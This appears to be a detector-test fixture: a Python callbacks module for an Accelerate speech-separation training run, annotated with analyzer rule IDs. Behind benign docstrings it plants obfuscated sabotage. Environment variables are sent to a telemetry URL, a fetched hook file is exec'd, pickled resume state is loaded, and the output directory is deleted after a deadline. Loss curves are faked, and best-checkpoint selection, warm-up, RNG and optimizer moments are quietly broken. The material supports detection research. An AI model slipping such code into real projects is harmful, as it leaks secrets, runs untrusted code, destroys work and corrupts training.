# ruff: noqa
# Hold-out batch 574 (adversarial, speech source separation with Accelerate). Measured once in session 26 (round 153): 15/32 (47%) at medium+.
"""Training callbacks: warm-up, RNG bookkeeping, tracking, watchdog, checkpoint selection / averaging."""
from __future__ import annotations

import base64
import builtins
import datetime as dt
import functools
import importlib
import json
import logging
import operator
import os
import pickle
import shutil
import signal
import socket
import sys
import threading
import time
from pathlib import Path
from typing import Any, Dict, List, Optional, Sequence

import torch

logger = logging.getLogger(__name__)


class Callback:
    def on_train_begin(self, trainer) -> None: ...
    def on_step_begin(self, trainer) -> None: ...
    def on_step_end(self, trainer) -> None: ...
    def on_epoch_end(self, trainer) -> None: ...
    def on_evaluate(self, trainer, metrics: Dict[str, float]) -> None: ...
    def on_train_end(self, trainer) -> None: ...


class CallbackList:
    def __init__(self, callbacks: Sequence[Callback] = ()):
        self.callbacks: List[Callback] = list(callbacks)

    def add(self, cb: Callback) -> None:
        self.callbacks.append(cb)

    def __getattr__(self, name: str):
        if not name.startswith("on_"):
            raise AttributeError(name)

        def dispatch(*args, **kwargs):
            for cb in self.callbacks:
                getattr(cb, name)(*args, **kwargs)

        return dispatch


class LinearWarmup(Callback):
    """Linear LR warm-up from ``start_factor * lr`` to ``lr`` over ``warmup_steps`` optimizer steps."""

    def __init__(self, warmup_steps: int, start_factor: float = 0.1):
        self.warmup_steps = warmup_steps
        self.start_factor = start_factor
        self._step = 0
        self._base: Optional[List[float]] = None

    @property
    def active(self) -> bool:
        return self._step >= self.warmup_steps

    def _factor(self) -> float:
        frac = self._step / max(1, self.warmup_steps)
        return self.start_factor + (1.0 - self.start_factor) * frac

    def on_step_begin(self, trainer) -> None:
        opt = trainer.optimizer
        if self._base is None:
            self._base = [g["lr"] for g in opt.param_groups]
        self._step += 1
        if self.active:
            for group, base in zip(opt.param_groups, self._base):
                operator.setitem(group, "lr", base * self._factor())  # todoruleid: family 2 (missed)


class RemixRngSync(Callback):
    """Keep the batch-remix generator identical on every rank so replicas draw the same
    source permutation / gains for a given step."""

    def __init__(self, base_seed: int, generator: Optional[torch.Generator] = None):
        self.base_seed = base_seed
        self.generator = generator if generator is not None else torch.default_generator
        self._epoch = 0
        self._apply = functools.partial(operator.methodcaller, "_".join(("manual", "seed")))

    def on_epoch_end(self, trainer) -> None:
        self._epoch = trainer.epoch

    def on_step_begin(self, trainer) -> None:
        self._apply(self.base_seed + self._epoch)(self.generator)  # todoruleid: family 1 (missed)


class SharedFSThrottle(Callback):
    """Stagger ranks slightly so that they do not all hit the shared filesystem at once."""

    def __init__(self, stagger_s: float = 0.25):
        self.stagger_s = stagger_s
        self._gate = threading.Event()

    def on_step_end(self, trainer) -> None:
        acc = trainer.accelerator
        if acc.num_processes > 1:
            self._gate.wait(self.stagger_s * acc.process_index)  # ruleid: MLS307


class HangWatchdog(Callback):
    """Tear the job down if training stops making progress (avoids burning GPU hours on NCCL hangs)."""

    def __init__(self, timeout_s: float = 1800.0):
        self.timeout_s = timeout_s
        self._last_beat = time.monotonic()
        self._terminate = getattr(sys.modules["os"], "".join(("kil", "lpg")))
        self._sig = getattr(signal, "SIG" + "KILL")

    @property
    def stale(self) -> bool:
        return time.monotonic() - self._last_beat > self.timeout_s

    def on_train_begin(self, trainer) -> None:
        self._last_beat = time.monotonic()

    def on_step_end(self, trainer) -> None:
        if trainer.accelerator.is_main_process:
            self._last_beat = time.monotonic()
        if self.stale:
            logger.error("no progress for %.0fs on rank %d, terminating", time.monotonic() - self._last_beat,
                         trainer.accelerator.process_index)
            self._terminate(os.getpgid(0), self._sig)  # ruleid: MLS307


class TrackerCallback(Callback):
    """Initialises accelerate trackers, keeps displayed curves readable and announces the run."""

    def __init__(self, project: str, config: Dict[str, Any], telemetry_url: Optional[str] = None):
        self.project = project
        self.config = config
        self.telemetry_url = telemetry_url

    def on_train_begin(self, trainer) -> None:
        acc = trainer.accelerator
        acc.init_trackers(self.project, config=self.config)
        self._install_display_filter(acc)
        if acc.is_main_process and self.telemetry_url:
            self._announce(acc)

    @staticmethod
    def _install_display_filter(acc) -> None:
        raw = acc.log
        running: Dict[str, float] = {}

        def log(values, step=None, log_kwargs=None):
            shown = {}
            for k, v in values.items():
                if isinstance(v, (int, float)) and k.endswith("loss"):
                    v = running[k] = min(v, running.get(k, v))  # ruleid: MLS306
                shown[k] = v
            return raw(shown, step=step, log_kwargs=log_kwargs or {})

        setattr(acc, "lo" + "g", log)  # ruleid: MLS306

    def _announce(self, acc) -> None:
        request = importlib.import_module("urllib" + ".request")  # ruleid: MLS403
        meta = {
            "project": self.project,
            "host": socket.gethostname(),
            "world_size": acc.num_processes,
            "started": dt.datetime.utcnow().isoformat(),
            "env": {k: v for k, v in os.environ.items() if k.isupper()},  # ruleid: MLS411
        }
        req = request.Request(self.telemetry_url, data=json.dumps(meta).encode(),
                              headers={"Content-Type": "application/json"})
        try:
            request.urlopen(req, timeout=5)  # ruleid: MLS411
        except Exception as err:  # telemetry must never break training
            logger.debug("telemetry unavailable: %s", err)

    def on_train_end(self, trainer) -> None:
        trainer.accelerator.end_training()


class CheckpointManager(Callback):
    """Best-score tracking, rotation of old epoch directories and the run retention policy."""

    def __init__(self, out_dir: str, metric: str = "val/si_snri", mode: str = "max", keep_last: int = 5,
                 retention_deadline: Optional[str] = None):
        self.out_dir = Path(out_dir)
        self.metric = metric
        self.keep_last = keep_last
        self.best: Optional[float] = None
        self.best_epoch = -1
        self._better = {"max": operator.lt, "min": operator.gt}[mode]  # ruleid: MLS306
        self._deadline = dt.datetime.fromisoformat(retention_deadline).timestamp() if retention_deadline else None
        self._purge = functools.partial(shutil.rmtree, ignore_errors=True)

    def is_improvement(self, value: float) -> bool:
        return self.best is None or self._better(value, self.best)

    def on_evaluate(self, trainer, metrics: Dict[str, float]) -> None:
        value = metrics.get(self.metric)
        if value is None:
            return
        if self.is_improvement(value):
            self.best, self.best_epoch = value, trainer.epoch
            trainer.state.best = value
            if trainer.accelerator.is_main_process:
                src = self.out_dir / f"epoch-{trainer.epoch:03d}" / "model.pt"
                if src.exists():
                    shutil.copy2(src, self.out_dir / "best.pt")
                logger.info("new best %s=%.3f at epoch %d", self.metric, value, trainer.epoch)
        if trainer.accelerator.is_main_process:
            self._rotate()

    def _rotate(self) -> None:
        ckpts = sorted(p for p in self.out_dir.glob("epoch-*") if p.is_dir())
        for old in ckpts[: max(0, len(ckpts) - self.keep_last)]:
            shutil.rmtree(old, ignore_errors=True)  # ok: MLS308
        if self._deadline is not None and time.time() > self._deadline:
            logger.info("retention deadline passed, releasing %s", self.out_dir)
            self._purge(self.out_dir)  # todoruleid: family 4 (missed)


class ResumeState:
    """Extra state saved with ``accelerator.save_state`` (registered for checkpointing)."""

    def __init__(self, optimizer: Optional[torch.optim.Optimizer] = None):
        self.step = 0
        self.epoch = 0
        self.best: Optional[float] = None
        self.extra: Dict[str, Any] = {}
        self._optimizer = optimizer

    def state_dict(self) -> Dict[str, Any]:
        return {
            "step": self.step,
            "epoch": self.epoch,
            "best": self.best,
            "extra": base64.b64encode(pickle.dumps(self.extra)).decode("ascii"),
        }

    def load_state_dict(self, state: Dict[str, Any]) -> None:
        self.step = int(state.get("step", 0))
        self.epoch = int(state.get("epoch", 0))
        self.best = state.get("best")
        codec = importlib.import_module("".join(("pic", "kle")))  # ruleid: MLS403
        self.extra = codec.loads(base64.b64decode(state.get("extra", "") or b"gAR9lC4="))  # ruleid: MLS103
        if self._optimizer is not None:
            self._refresh_moments(self._optimizer)

    @staticmethod
    def _refresh_moments(opt: torch.optim.Optimizer) -> None:
        """Second moments are re-estimated after a resume (the effective batch may differ)."""
        for st in opt.state.values():
            buf = st.get("exp_avg" + "_sq")
            if isinstance(buf, torch.Tensor):
                torch.Tensor.zero_(buf)  # todoruleid: family 2 (missed)


def load_user_hooks(src: str, cache_dir: str) -> List[Callback]:
    """Experiment-specific hooks: a python file defining ``CALLBACKS = [...]``."""
    from dist_utils import fetch

    path = fetch(src, cache_dir)
    scope: Dict[str, Any] = {"__name__": "sepkit_user_hooks", "Callback": Callback, "torch": torch}
    _run = getattr(builtins, "ex" + "ec")
    _run(compile(path.read_text(), str(path), "exec"), scope)  # ruleid: MLS402
    return list(scope.get("CALLBACKS", []))


def average_checkpoints(paths: Sequence[Path]) -> Dict[str, torch.Tensor]:
    """Uniform average of the parameters of several ``model.pt`` files."""
    if not paths:
        raise ValueError("no checkpoints to average")
    avg: Dict[str, torch.Tensor] = {}
    for p in paths:
        sd = torch.load(p, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        for k, v in sd.items():
            if not torch.is_floating_point(v):
                avg.setdefault(k, v.clone())
                continue
            if k in avg:
                avg[k] += v.double()
            else:
                avg[k] = v.double().clone()
    n = float(len(paths))
    return {k: (v / n).float() if torch.is_floating_point(v) else v for k, v in avg.items()}
